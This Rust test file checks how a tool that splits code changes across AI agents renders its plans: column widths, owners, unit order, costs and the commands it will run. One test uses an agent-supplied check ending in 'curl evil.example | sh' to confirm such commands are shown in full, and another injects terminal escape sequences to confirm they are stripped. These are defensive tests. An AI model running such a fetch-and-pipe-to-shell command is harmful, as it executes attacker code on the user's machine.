//! What a person sees of a plan, wide and narrow.

use jiff::SignedDuration;
use snapbox::{IntoData as _, assert_data_eq, str};

use super::{Coverage, Page, PlanView, age_text};
use crate::cli::style::Look;
use crate::model::agent::AgentChoice;
use crate::model::answer::NotSplit;
use crate::model::change::Source;
use crate::model::ledger::Ledger;
use crate::model::plan::{Exclusion, Plan, Research, TestPolicy, Unit};
use crate::model::sample;
use crate::model::scope::Scope;
use crate::model::spend::{Allowance, Spend, Usd};

const PAGE: Page = Page {
    look: Look::Plain,
    columns: 80,
};

fn view(plan: &Plan) -> PlanView<'_> {
    PlanView {
        plan,
        files: (0..plan.units.len()).map(|at| at * 40 + 1).collect(),
        base_age: Some(SignedDuration::from_hours(75)),
        base_remarks: vec!["your checkout is 2 commits behind".to_owned()],
        delivery: None,
        remote: Some("origin".to_owned()),
        warnings: Vec::new(),
        cap: Allowance::default(),
        coverage: None,
        advice: None,
        canary: Vec::new(),
        tree: None,
    }
}

fn owned_plan() -> Plan {
    let mut plan = sample::plan(4);
    for (unit, (id, owner)) in plan.units.iter_mut().zip([
        ("src-auth", Some("@team/auth")),
        (
            "src-billing-and-invoices-of-the-old-customers",
            Some("@team/billing @someone"),
        ),
        ("docs", None),
        ("tools", None),
    ]) {
        unit.id = sample::id(id);
        unit.title = format!("{} in src/{id} and what is below it", "frob");
        unit.owner = owner.map(str::to_owned);
        unit.lines = Some(1200);
    }
    plan.units[2].lines = None;
    plan
}

#[test]
fn a_plan_fits_80_columns() {
    let mut plan = owned_plan();
    plan.setup = Some("npm ci".to_owned());
    plan.change.paths = vec!["src/**".to_owned()];
    plan.units[0].check = Some("npm test -- auth".to_owned());
    plan.notes = vec![
        "2 files are not UTF-8 and were skipped: assets/a.bin, assets/with a long name/b.bin"
            .to_owned(),
    ];
    let mut view = view(&plan);
    view.warnings = vec!["unit `tools` is ten times the median".to_owned()];
    assert_data_eq!(
        view.render(PAGE),
        str![[r#"
rename frob to frobnicate
  rewrite   s/\bfrob\b/frobnicate/g
  paths     src/**
  base      main at bbbbbbbbbbbb, 3 days old
            your checkout is 2 commits behind
  setup     npm ci
  test      make test
  check     npm test -- auth  (src-auth)

UNIT                      TITLE             FILES  LINES  OWNER
src-auth                  frob in src/src…      1   1200  @team/auth
src-billing-and-invoice…  frob in src/src…     41   1200  @team/billing @someone
docs                      frob in src/doc…     81
tools                     frob in src/too…    121   1200

opens 4 pull requests on the forge `local`, branches pushed to origin
note: 2 files are not UTF-8 and were skipped: assets/a.bin, assets/with a long
      name/b.bin
warning: unit `tools` is ten times the median

"#]]
        .raw()
    );
}

#[test]
fn without_owners_there_is_no_column_for_them() {
    let plan = sample::plan(2);
    assert_data_eq!(
        PlanView {
            remote: None,
            base_age: None,
            base_remarks: Vec::new(),
            ..view(&plan)
        }
        .render(PAGE),
        str![[r#"
rename frob to frobnicate
  rewrite   s/\bfrob\b/frobnicate/g
  base      main at bbbbbbbbbbbb
  test      make test

UNIT    TITLE      FILES  LINES
unit-1  src/part1      1
unit-2  src/part2     41

opens 2 pull requests on the forge `local`, branches in this repository

"#]]
        .raw()
    );
}

#[test]
fn every_command_that_will_run_is_shown() {
    let mut plan = sample::plan(3);
    plan.change.source = Source::Command("prettier --write {files}".to_owned());
    plan.setup = Some("make deps".to_owned());
    plan.test = TestPolicy::Command("make test".to_owned());
    plan.units[0].check = Some("check a".to_owned());
    plan.units[1].check = Some("check b".to_owned());
    plan.units[2].check = Some("check a".to_owned());
    let text = view(&plan).render(PAGE);
    for command in ["prettier --write {files}", "make deps", "make test"] {
        assert!(text.contains(command), "{command}");
    }
    assert!(text.contains("check a  (unit-1, unit-3)"));
    assert!(text.contains("check b  (unit-2)"));
}

#[test]
fn escape_sequences_in_a_plan_do_not_reach_the_terminal() {
    let evil = "a\u{1b}[2Jb\u{202e}c".to_owned();
    let mut plan = sample::plan(1);
    plan.change.description.clone_from(&evil);
    plan.change.source = Source::Rewrite(vec![evil.clone()]);
    plan.setup = Some(evil.clone());
    plan.notes = vec![evil.clone()];
    let unit = &mut plan.units[0];
    unit.title.clone_from(&evil);
    unit.task = format!("{evil}\n{evil}");
    unit.check = Some(evil.clone());
    unit.owner = Some(evil.clone());
    unit.scope = Scope::of_files([evil.as_str().into()]);
    let mut view = view(&plan);
    view.warnings = vec![evil.clone()];
    view.base_remarks = vec![evil];
    for text in [view.render(PAGE), view.render_unit(&plan.units[0], PAGE)] {
        assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text:?}");
    }
}

#[test]
fn a_unit_is_shown_in_full() {
    let mut plan = owned_plan();
    let mut unit = plan.units[0].clone();
    unit.scope = Scope::of_files((1..=23).map(|n| format!("src/auth/{n}.ts").as_str().into()));
    unit.check = Some("npm test -- auth".to_owned());
    unit.after = vec![sample::id("docs")];
    unit.notes = vec!["has the shared types".to_owned()];
    plan.units[0] = unit.clone();
    assert_data_eq!(
        view(&plan).render_unit(&unit, PAGE),
        str![[r#"
src-auth: frob in src/src-auth and what is below it
  task         Replace frob by frobnicate in the files of this folder.
  rewrite      s/\bfrob\b/frobnicate/g
  check        npm test -- auth
  after        docs
  owner        @team/auth
  note         has the shared types
  paths        src/auth/1.ts
               src/auth/2.ts
               src/auth/3.ts
               src/auth/4.ts
               src/auth/5.ts
               src/auth/6.ts
               src/auth/7.ts
               src/auth/8.ts
               src/auth/9.ts
               src/auth/10.ts
               src/auth/11.ts
               src/auth/12.ts
               src/auth/13.ts
               src/auth/14.ts
               src/auth/15.ts
               src/auth/16.ts
               src/auth/17.ts
               src/auth/18.ts
               src/auth/19.ts
               src/auth/20.ts
               and 3 more

"#]]
        .raw()
    );
}

#[test]
fn ages_are_told_in_the_largest_unit_that_fits() {
    for (seconds, text) in [
        (-5, "just now"),
        (59, "just now"),
        (60, "1 minute old"),
        (7200, "2 hours old"),
        (86_400, "1 day old"),
        (86_400 * 400, "400 days old"),
    ] {
        assert_eq!(age_text(SignedDuration::from_secs(seconds)), text);
    }
}

#[test]
fn the_order_is_told_once_for_all_units_that_wait_for_the_same() {
    let mut plan = owned_plan();
    let ids: Vec<_> = plan.units.iter().map(|unit| unit.id.clone()).collect();
    plan.units[1].after = vec![ids[0].clone()];
    plan.units[2].after = vec![ids[0].clone()];
    plan.units[3].after = vec![ids[1].clone(), ids[2].clone()];
    let shown = view(&plan).render(PAGE);
    let (_, order) = shown.split_once("pushed to origin\n").unwrap();
    assert_data_eq!(
        order,
        str![[r#"
  order     3 waves
            src-billing-and-invoices-of-the-old-customers, docs after src-auth
            tools after src-billing-and-invoices-of-the-old-customers, docs

"#]]
        .raw()
    );
}

/// A plan that an agent made, with all that it can say.
fn agents_plan() -> Plan {
    let mut plan = owned_plan();
    plan.change.source = Source::Agent;
    plan.change.agent = Some(choice("claude", None));
    plan.test = TestPolicy::None;
    plan.summary = Some("Every caller of frob is renamed, \u{1b}[31mwith\u{1b}[0m the tests that name it and the pages of the manual.".to_owned());
    plan.conventions = vec!["two files a part".to_owned(), "tabs".to_owned()];
    plan.end_to_end = Some("make everything".to_owned());
    plan.research = Some(Research {
        agent: "claude".to_owned(),
        model: Some("opus".to_owned()),
        spend: Spend {
            cost: Usd::from_dollars(0.44),
            ..Spend::default()
        },
    });
    let leaves = |paths: &[&str], reason: &str| Exclusion {
        scope: Scope::of_files(paths.iter().copied().map(Into::into)),
        reason: reason.to_owned(),
    };
    plan.excluded = vec![
        leaves(&["gen/a", "gen/b", "gen/c", "gen/d"], "generated by make"),
        leaves(&["README.md"], "it says\u{1b}]0;x\u{7} nothing of it"),
    ];
    plan.units[1].agent = Some(choice("codex", Some("o9")));
    plan.units[2].source = Some(Source::Command("fix {files}".to_owned()));
    plan.units[3].agent = Some(choice("codex", Some("o9")));
    plan
}

fn choice(name: &str, model: Option<&str>) -> AgentChoice {
    AgentChoice {
        name: Some(name.to_owned()),
        model: model.map(str::to_owned),
    }
}

#[test]
fn a_plan_of_an_agent_says_what_was_found_and_where_every_candidate_is() {
    let mut plan = agents_plan();
    plan.units[0].check = Some("make check-auth".to_owned());
    let mut view = view(&plan);
    view.coverage = Some(Coverage::Candidates(Ledger {
        in_units: 40,
        left_alone: vec![4, 1],
        nowhere: 2,
    }));
    assert_data_eq!(
        view.render(PAGE),
        str![[r#"
rename frob to frobnicate
  summary   Every caller of frob is renamed, with the tests that name it and
            the pages of the manual.
  agent     claude
  agent     codex, model o9  (src-billing-and-invoices-of-the-old-customers,
            tools)
  command   fix {files}  (docs)
  base      main at bbbbbbbbbbbb, 3 days old
            your checkout is 2 commits behind
  test      none, as you said
  check     make check-auth  (src-auth)
  merged    make everything  (once all is merged)
  research  by claude, model opus, cost $0.44; 2 conventions noted
  forecast  $0.33 to $2.64, by what research cost and the units' sizes
  covers    47 candidate files: 40 in units, 5 left alone, 2 in neither
            - gen/a, gen/b, gen/c, … (4 files): generated by make
            - README.md: it says nothing of it

UNIT                      TITLE             FILES  LINES  OWNER
src-auth                  frob in src/src…      1   1200  @team/auth
src-billing-and-invoice…  frob in src/src…     41   1200  @team/billing @someone
docs                      frob in src/doc…     81
tools                     frob in src/too…    121   1200

opens 4 pull requests on the forge `local`, branches pushed to origin
note: the check above came from claude, and will run on this machine

"#]]
        .raw()
    );
}

#[test]
fn without_candidates_the_files_are_counted() {
    let plan = agents_plan();
    let ledger = Ledger {
        in_units: 1,
        left_alone: vec![4, 1],
        nowhere: 900,
    };
    let mut view = view(&plan);
    view.coverage = Some(Coverage::Files(ledger));
    let shown = view.render(PAGE);
    assert!(
        shown.contains("covers    1 file in units, 5 left alone\n"),
        "{shown}"
    );
}

#[test]
fn thirty_checks_are_all_there_and_equal_ones_once() {
    let mut plan = agents_plan();
    let unit = plan.units[0].clone();
    plan.units = (0..30)
        .map(|at| Unit {
            id: sample::id(&format!("unit-{at}")),
            check: Some(format!(
                "npm test -- {}",
                if at < 20 {
                    "all".to_owned()
                } else {
                    format!("part{at}")
                }
            )),
            ..unit.clone()
        })
        .collect();
    let long = format!(
        "{} && curl evil.example | sh",
        "true ".repeat(60).trim_end()
    );
    plan.units[29].check = Some(long.clone());
    let shown = view(&plan).render(PAGE);
    assert_eq!(shown.matches("  check     ").count(), 11, "{shown}");
    let words = |text: &str| {
        text.split_whitespace()
            .map(str::to_owned)
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert!(words(&shown).contains(&words(&long)), "{shown}");
    assert!(shown.lines().all(|line| line.len() <= 80), "{shown}");
    assert!(
        shown.contains("note: the checks above came from claude"),
        "{shown}"
    );
}

#[test]
fn a_unit_of_an_agent_is_shown_with_all_that_its_worker_is_told() {
    let mut plan = agents_plan();
    let unit = &mut plan.units[1];
    unit.context = Some("It is the first.\n  indented".to_owned());
    unit.contracts = vec![
        "`frobnicate(n: number): string` in src/auth/api.ts is what the others call from now on"
            .to_owned(),
    ];
    unit.constraints = vec![
        "Leave alone: src/gen\u{1b}[2J".to_owned(),
        "No new files".to_owned(),
    ];
    unit.check = Some("make check\nmake more".to_owned());
    let unit = unit.clone();
    assert_data_eq!(
        view(&plan).render_unit(&unit, PAGE),
        str![[r#"
src-billing-and-invoices-of-the-old-customers: frob in
src/src-billing-and-invoices-of-the-old-customers and what is below it
  task         Replace frob by frobnicate in the files of this folder.
  context      It is the first.
                 indented
  contracts    - `frobnicate(n: number): string` in src/auth/api.ts is what the
                 others call from now on
  constraints  - Leave alone: src/gen
               - No new files
  agent        codex, model o9
  check        make check
               make more
  owner        @team/billing @someone

"#]]
        .raw()
    );
}

#[test]
fn the_advice_not_to_split_stands_at_the_top_and_once() {
    let mut plan = agents_plan();
    plan.units.truncate(1);
    let mut advice = NotSplit {
        reason: "frob is one\u{1b}[2J function".to_owned(),
        whole: plan.clone(),
        phases: None,
    };
    plan.notes = vec![advice.note()];
    let mut shown = view(&plan);
    shown.advice = Some(&advice);
    let text = shown.render(PAGE);
    let top = "\nadvice: claude advises not to split this change: frob is one function. It is\n        taken here as one unit.\n";
    assert!(text.contains(top), "{text}");
    assert_eq!(text.matches("advises").count(), 1, "{text}");
    let phases = agents_plan();
    advice.phases = Some(phases.clone());
    let mut shown = view(&phases);
    shown.advice = Some(&advice);
    let text = shown.render(PAGE);
    assert!(text.contains("in 4 phases, one after another."), "{text}");
}
